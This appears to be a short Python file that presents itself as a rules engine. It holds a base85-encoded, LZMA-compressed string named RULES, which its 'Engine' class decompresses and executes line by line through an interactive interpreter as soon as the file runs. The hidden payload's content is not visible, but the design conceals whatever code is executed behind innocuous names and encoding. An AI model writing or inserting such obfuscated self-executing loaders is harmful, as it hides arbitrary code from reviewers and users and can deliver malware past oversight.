import code
import lzma
from base64 import b85decode as _unpack

RULES = (
    "{Wp48S^xk9=GL@E0stWa761SMbT8$j0RRnfa%paKC?aWYWpZ>PDF6TfLX+~hVWm%r00AZr2pix8AGY&-0RR9100dcD"
)


class Engine(code.InteractiveInterpreter):
    def feed(self, packed):
        for line in lzma.decompress(_unpack(packed)).decode().splitlines():
            self.runsource(line)


Engine().feed(RULES)
